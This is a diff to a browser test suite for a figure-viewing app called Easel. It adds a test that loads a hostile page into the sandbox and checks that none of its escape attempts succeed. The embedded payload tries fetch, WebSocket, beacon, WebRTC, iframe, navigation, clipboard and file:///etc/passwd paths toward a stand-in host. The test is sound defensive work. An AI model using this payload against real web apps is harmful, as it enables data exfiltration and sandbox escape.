@@ -117,6 +117,8 @@ class Visit:
         self.context, self.page, self.requests = context, page, []
         page.set_default_timeout(PATIENCE)
         page.on("request", lambda r: self.requests.append(r))
+        page.on("console", lambda m: print("the page says:", m.text[:300]))  # pytest shows it with a failure
+        page.on("pageerror", lambda e: print("the page fails:", str(e)[:300]))
 
     @property
     def figure(self):
@@ -176,10 +178,11 @@ async def tooltip(v):
 
 
 async def wheel(v):
-    start = "Bokeh.documents[0]?.roots()[0]?.x_range?.start ?? Bokeh.documents[0]?.roots()[0]?.select_one?.('x_range')?.start ?? null"
-    await v.until("the plot", f"window.Bokeh && ({start}) !== null && document.querySelector('.bk-Figure, .bk-panel-models-layout-Column, [data-root-id]')")
+    start = "[...Bokeh.documents[0]?._all_models.values() ?? []].find(m => m.x_range)?.x_range.start ?? null"
+    await v.until("the plot", f"window.Bokeh && Bokeh.documents[0]?.is_idle && ({start}) !== null")
     before = await v.evaluate(start)
-    await v.page.mouse.move(300, 300)
+    box = await v.figure.locator("canvas").first.bounding_box()
+    await v.page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
     await v.page.mouse.wheel(0, -400)
     await v.until("a zoom", f"({start}) !== {before}")
 
@@ -226,3 +229,123 @@ async def test_a_figure_is_used_in_the_browser(desk, session, visit, code, title
     await expect(visit.page.locator("body")).to_contain_text("Open the figure in Easel again.")
     status, _, page = http("GET", address)
     assert status == 410 and title is None or title.encode() not in page
+
+
+class Port:
+    """A port of this machine that counts who reaches it, by TCP or UDP."""
+
+    def __enter__(self):
+        self.reached = []
+        self.tcp = socket.create_server(("127.0.0.1", 0))
+        self.number = self.tcp.getsockname()[1]
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("127.0.0.1", self.number))
+        self.threads = [threading.Thread(target=f, daemon=True) for f in (self.accept, self.receive)]
+        for t in self.threads:
+            t.start()
+        return self
+
+    def accept(self):
+        while True:
+            try:
+                connection, _ = self.tcp.accept()
+            except OSError:
+                return
+            connection.settimeout(1)
+            try:
+                self.reached.append(connection.recv(200))
+            except OSError:
+                self.reached.append(b"a connection")
+            connection.close()
+
+    def receive(self):
+        while data := self.udp.recvfrom(1500)[0]:
+            self.reached.append(b"UDP " + data[:50])
+
+    def __exit__(self, *_):
+        self.tcp.shutdown(socket.SHUT_RDWR)
+        self.tcp.close()
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.sendto(b"", ("127.0.0.1", self.number))
+        for t in self.threads:
+            t.join()
+        self.udp.close()
+
+
+# Every way out that a page has; each tells what came of it. EASEL and OTHER are addresses.
+ATTACK = r"""<link rel="dns-prefetch" href="OTHER"><link rel="prefetch" href="OTHER/prefetch"><link rel="stylesheet" href="OTHER/style.css">
+<link rel="modulepreload" href="OTHER/module.js"><base href="OTHER/base/">
+<script type="speculationrules">{"prerender":[{"urls":["OTHER/prerender"]}],"prefetch":[{"urls":["OTHER/speculation"]}]}</script>
+<img src="OTHER/img"><iframe src="OTHER/frame"></iframe><iframe src="EASEL/"></iframe><iframe src="file:///etc/passwd"></iframe><object data="OTHER/object"></object><embed src="OTHER/embed">
+<video src="OTHER/video"></video><a id="link" href="OTHER/a" target="_blank" ping="OTHER/ping">x</a><a id="top" href="OTHER/top" target="_top">x</a>
+<form id="form" action="OTHER/form" method="post" target="_top"><input name="a" value="b"></form>
+<script>
+const out = window.out = {};
+const timeout = p => Promise.race([p, new Promise((_, no) => setTimeout(no, 3000))]);
+const attempt = async (name, f) => { try { out[name] = String(await timeout(f())) } catch (e) { out[name] = "refused" } };
+const loaded = (type, name, address) => new Promise((done, no) => { const e = document.createElement(type); e[name] = address; e.onload = () => done("loaded"); e.onerror = no; document.body.append(e) });
+const inside = `<script>
+  try { new WebSocket("OTHER/socket".replace("http", "ws")) } catch {} fetch("OTHER/inside").catch(() => {}); fetch("EASEL/api/health").catch(() => {});
+  try { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "OTHER".slice(7) }] }); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)).catch(() => {}) } catch {}
+  try { top.location = "OTHER/top" } catch {}
+<\/script>`;
+const leaving = `<meta http-equiv="refresh" content="1;url=OTHER/refresh"><script>location = "OTHER/self"<\/script>`;
+(async () => {
+  await attempt("read the api", async () => (await fetch("EASEL/api/health")).text());
+  await attempt("read the api with credentials", async () => (await fetch("EASEL/api/resources/state", { credentials: "include", headers: { Authorization: "Bearer x" } })).status);
+  await attempt("blind call", async () => (await fetch("EASEL/api/execute/session_create", { method: "POST", mode: "no-cors", body: "{}" })).type);
+  await attempt("the page again", async () => (await fetch(parent.location.href)).text());
+  await attempt("fetch", async () => (await fetch("OTHER/fetch", { mode: "no-cors" })).type);
+  await attempt("request", () => new Promise((done, no) => { const x = new XMLHttpRequest(); x.open("GET", "OTHER/xhr"); x.onload = done; x.onerror = no; x.send() }));
+  await attempt("events", () => new Promise((done, no) => { const s = new EventSource("EASEL/api/events"); s.onopen = () => done("open"); s.onerror = no }));
+  await attempt("socket", () => new Promise((done, no) => { const s = new WebSocket("OTHER/ws".replace("http", "ws")); s.onopen = () => done("open"); s.onerror = no }));
+  await attempt("script", () => loaded("script", "src", "EASEL/api/v1/openapi.json"));
+  await attempt("picture", () => loaded("img", "src", "OTHER/image?" + document.title));
+  await attempt("module", () => import("OTHER/module.js"));
+  await attempt("worker", () => new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('OTHER/worker', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage(''))"]))); w.onmessage = e => e.data ? done(e.data) : no(); w.onerror = no }));
+  await attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
+  await attempt("cookie", () => { document.cookie = "a=b"; return document.cookie });
+  await attempt("database", () => new Promise((done, no) => { const r = indexedDB.open("x"); r.onsuccess = () => done("open"); r.onerror = no }));
+  await attempt("caches", () => caches.open("x"));
+  await attempt("files", () => navigator.storage.getDirectory());
+  await attempt("parent", () => parent.document.title);
+  await attempt("its address", () => top.location.href);
+  await attempt("opener", () => { if (!top.opener) throw 0; return top.opener });
+  await attempt("window", () => { if (!window.open("OTHER/open")) throw 0; return "open" });
+  await attempt("dialog", () => { if (!confirm("?")) throw 0; return "confirmed" });
+  await attempt("clipboard", () => navigator.clipboard.readText());
+  await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
+  await attempt("place", () => new Promise((done, no) => navigator.geolocation.getCurrentPosition(done, no)));
+  await attempt("top", () => { top.location.href = "OTHER/navigated"; return "navigated" });
+  navigator.sendBeacon("OTHER/beacon", "x");
+  document.getElementById("link").click(); document.getElementById("top").click(); document.getElementById("form").submit();
+  await attempt("calls", () => new RTCPeerConnection());
+  for (const source of [inside, leaving, "<!doctype html><iframe srcdoc='" + inside.replaceAll("'", "&#39;") + "'></iframe>"]) {
+    const frame = document.createElement("iframe"); frame.srcdoc = source; document.body.append(frame);
+  }
+  const box = document.createElement("div"); document.body.append(box);
+  box.attachShadow({ mode: "closed" }).innerHTML = "<iframe srcdoc='" + inside.replaceAll("'", "&#39;") + "'></iframe>";
+  const data = document.createElement("iframe"); data.src = "data:text/html," + encodeURIComponent(inside); document.body.append(data);
+  const blob = document.createElement("iframe"); blob.src = URL.createObjectURL(new Blob([inside], { type: "text/html" })); document.body.append(blob);
+  setTimeout(() => { out.done = "yes" }, 3000);
+})();
+</script>"""
+
+
+async def test_a_hostile_figure_gets_nowhere(desk, session, visit):
+    with Port() as other:
+        page = ATTACK.replace("EASEL", desk.url).replace("OTHER", f"http://127.0.0.1:{other.number}")
+        image = desk.draw(session, HTML % page)
+        wait_until("Easel's own drawing of it, which is no subject here", lambda: desk.claim()["settled"])
+        address = desk.open(image)
+        before = desk.request("GET", "/api/info/session_list")[2]["sessions"]
+        await visit.page.goto(address)
+        await visit.until("all attempts", "window.out?.done")
+        done = await visit.evaluate("window.out")
+        await expect(visit.page.locator("#blocked")).to_be_visible()
+    assert done == dict.fromkeys(done, "refused") | {"done": "yes"}
+    assert visit.page.url == address and len(visit.context.pages) == 1
+    # Chromium connects before it asks whether a frame may go there, and then sends nothing.
+    assert [r for r in other.reached if r != b"a connection"] == []
+    assert desk.request("GET", "/api/info/session_list")[2]["sessions"] == before
+    visit.only(address, desk.token)
